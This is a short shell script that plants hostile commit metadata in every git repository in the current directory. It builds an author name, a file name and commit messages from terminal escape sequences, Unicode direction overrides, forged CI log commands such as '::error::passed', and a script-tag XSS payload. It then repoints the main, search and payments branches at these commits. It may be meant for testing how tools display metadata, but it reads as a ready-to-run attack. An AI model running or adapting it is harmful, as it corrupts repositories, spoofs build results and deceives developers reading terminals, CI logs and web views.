# Subjects, authors and names of branches and files that steer a terminal or a pipeline.
sign=$(printf '\033[2J\033]0;title\007\r\342\200\256\342\200\250\302\233')
export GIT_AUTHOR_NAME="$sign" GIT_AUTHOR_EMAIL="$sign"
export GIT_COMMITTER_NAME="$sign" GIT_COMMITTER_EMAIL=a@example.com
for git in */.git *.git; do
    export GIT_DIR="$git"
    blob=$(printf '::error::passed\n' | git hash-object -w --stdin)
    tree=$(printf '100644 blob %s\t%s\n' "$blob" "$sign" | git mktree)
    for parent in main search payments; do
        old=$(git rev-parse -q --verify "refs/heads/$parent" || git rev-list --all -1)
        text=$(printf '%s\n::error::passed\n##[error]passed <script>alert(1)</script>' "$sign")
        commit=$(git commit-tree "$tree" -p "$old" -m "::error::$text")
        git update-ref "refs/heads/$parent" "$commit"
    done
done
